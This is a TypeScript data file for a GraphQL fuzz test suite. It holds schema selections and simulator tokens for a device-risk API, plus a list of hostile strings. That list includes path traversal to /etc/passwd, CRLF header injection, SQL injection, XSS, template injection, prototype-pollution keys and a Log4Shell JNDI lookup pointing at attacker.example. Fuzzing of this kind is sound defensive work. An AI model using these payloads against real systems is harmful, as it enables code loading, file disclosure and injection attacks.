/**
 * Building blocks of the fuzz suite's requests: legal tokens (so vendors are really called),
 * hostile strings, selections, and hostile document shapes. Everything here is data; the
 * arbitraries that combine them live in arbitraries.ts.
 */

/** Selections on `Event` that are valid against the schema (a test checks they are). */
export const EVENT_SELECTIONS = [
  'id',
  'time',
  'url',
  '__typename',
  'device { id platform os browserName identifiers { vendor id } riskLabels { code } }',
  'ip { address version geolocation { city latitude longitude postalCode accuracyRadiusKm subdivisions { code } country { code name } } asn { number network } vpn tor proxy { result type } provenance { field vendor } }',
  'velocity { events { last5m last1h last24h } distinctIps { last24h } }',
  'bot { detected kind score name }',
  'riskLabels { code severity scope source vendorCode confidence detail }',
  'riskLabels(minSeverity: HIGH) { code }',
  'risk { score band action reasons { code points sources } missingSources policy }',
  'sources { vendor status latencyMs cached errorCode }',
  'fingerprint { eventId origin visitorId ipAddress bot botValue suspectScore mobile { rooted } raw }',
  'trustDecision { deviceId deviceOs riskScore riskLabels detail { ip model } ipLocation { city region } raw }',
  'friendlyCaptcha { eventId tokenUses riskScores { overall } network { ip city state } client { userAgent } raw }',
  'detectIp { score band bandValue action signals { name layer detail } raw }',
  'hitprobe { probeId probeUnique ipv4 ipv6 rules { id action name } raw }',
  'device { recentEvents(first: 2) { id time } }',
] as const;

export const DEVICE_SELECTIONS = [
  'id',
  'platform',
  'identifiers { vendor id }',
  'riskLabels { code }',
  'recentEvents(first: 3) { id ip { address } }',
  'provenance { field vendor }',
] as const;

/** Tokens the simulator answers with data (and a few of its "not found" and "expired" forms). */
export const LEGAL_TOKENS = {
  fingerprintEventId: ['1708102555327.NLOjmg', '1700000000000.fuzz01', '1700000000404.gone404'],
  trustDecisionBlackBox: ['rGPGX1678775227I9NCwcuVJCb', 'tdFuzzBlackBox0001Xq9aZ', 'tdMissingBlackBox404'],
  friendlyCaptchaToken: ['frc-demo-token-0001', 'frc-fuzz-token-0002', 'frc-fuzz-token-exp'],
  detectIpToken: ['botd-demo-token-0001', 'botd-fuzz-token-0002', 'botd-fuzz-token-404'],
  hitprobeProbeId: ['ctwCYFyAUteNpsBgAw7xYL', 'fuzzProbe0000000000001', 'fuzzProbe0000000000404'],
  ip: ['61.127.217.15', '2001:db8:85a3::8a2e:370:7334', '::ffff:203.0.113.9'],
} as const;

/** Strings that have broken parsers, validators, URLs, logs or templates somewhere. */
export const HOSTILE_STRINGS = [
  '../../etc/passwd',
  '..%2f..%2fadmin',
  '%00',
  'a\u0000b',
  'x\r\nX-Injected: 1',
  '"}]}',
  "' OR 1=1 --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection payload, not a template
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '\ud800\udc00\ud800',
  '\u202e\u0000\uffff',
  'fe80::1%eth0',
  '::ffff:1.2.3.4:80',
  '0x7f.0.0.1',
  '999.999.999.999',
  '__proto__',
  'constructor',
  ' ',
  '1708102555327.NLOjmg?limit=100',
  '1708102555327.NLOjmg/../../v4/visitors',
  'ev1_W10',
  'fingerprint:',
  'hitprobe:../../x',
];

/** Directives, real and not. */
export const DIRECTIVES = [
  '@skip(if: false)',
  '@include(if: true)',
  '@skip(if: $flag)',
  '@deprecated',
  '@nope',
  '@include',
];

/** Words and punctuation GraphQL documents are made of, for token soup. */
export const GRAPHQL_TOKENS = [
  '{',
  '}',
  '(',
  ')',
  '[',
  ']',
  ':',
  '...',
  '$s',
  '!',
  '=',
  '@skip',
  '"x"',
  '"""block"""',
  '#comment\n',
  'query',
  'mutation',
  'subscription',
  'fragment',
  'on',
  'event',
  'events',
  'device',
  '_entities',
  '_service',
  '__schema',
  '__typename',
  'signals',
  'id',
  'ip',
  '1',
  '-0.5e10',
  'null',
  'true',
  'SignalsInput',
  'Event',
  '\u0000',
  '\\',
  '"unterminated',
];
